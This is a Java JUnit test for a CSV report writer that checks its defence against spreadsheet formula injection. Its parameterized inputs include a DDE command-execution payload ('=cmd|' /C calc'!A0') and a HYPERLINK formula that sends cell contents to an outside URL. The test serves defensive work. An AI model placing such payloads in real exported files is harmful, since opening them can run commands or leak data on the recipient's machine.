package org.readout.report.csv;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.readout.model.outcome.Outcome;
import org.readout.report.Golden;
import org.readout.report.HostileVisit;
import org.readout.report.SampleVisit;

class OutcomeCsvWriterTest {
  private final OutcomeCsvWriter writer = new OutcomeCsvWriter();

  @Test
  void writesTheSample() throws IOException {
    String csv = new String(writer.write(SampleVisit.record()), UTF_8);
    assertThat(csv).startsWith("\ufeff\"id\",").endsWith("\"\r\n");
    assertThat(csv.replace("\r\n", "")).doesNotContain("\r", "\n");
    Golden.assertSame("sample.csv.txt", csv.substring(1).replace("\r\n", "\n"));
  }

  @Test
  void aReaderGetsWhatTheRecordHas() throws IOException {
    List<Outcome> outcomes = SampleVisit.record().outcomes();
    CsvTable table = CsvTable.of(writer.write(SampleVisit.record()));
    assertThat(table.rows()).hasSameSizeAs(outcomes);
    assertThat(table.column("statement"))
        .isEqualTo(outcomes.stream().map(Outcome::statement).toList());
    assertThat(table.column("citations").getFirst())
        .contains(
            outcomes.getFirst().evidence().getFirst().file()
                + ":"
                + outcomes.getFirst().evidence().getFirst().span().start()
                + "-");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1+1",
        "'=1",
        "''@x",
        "=HYPERLINK(\"http://example.org/?\"&A1,\"see\")",
        "=cmd|' /C calc'!A0",
        "\",=1+1,\"",
        "'quoted' words",
        "a = b",
      })
  void noCellIsAFormulaAndNoneIsLost(String hostile) throws IOException {
    CsvTable table = CsvTable.of(writer.write(HostileVisit.everywhere(hostile)));
    assertThat(table.head()).hasSize(12);
    table
        .rows()
        .forEach(row ->
            assertThat(row)
                .hasSize(12)
                .allMatch(cell -> !cell.matches("(?s)[=+\\-@\t\r\n＝＋－＠].*")));
    assertThat(table.column("statement"))
        .containsOnly(
            hostile.startsWith("\",") || hostile.startsWith("'q") || hostile.startsWith("a")
                ? hostile
                : "'" + hostile);
    assertThat(table.column("statement").stream().map(OutcomeCsvWriterTest::asItWas))
        .containsOnly(hostile);
  }

  /** The rule of docs/formats.md. */
  private static String asItWas(String cell) {
    return cell.matches("(?s)'+[=+\\-@\t\r\n＝＋－＠].*") ? cell.substring(1) : cell;
  }

  @Test
  void emptyRecordsHaveAHead() throws IOException {
    assertThat(Stream.of(CsvTable.of(writer.write(new org.readout.report.VisitBuilder().build()))))
        .allMatch(table -> table.rows().isEmpty() && table.head().getFirst().equals("id"));
  }
}
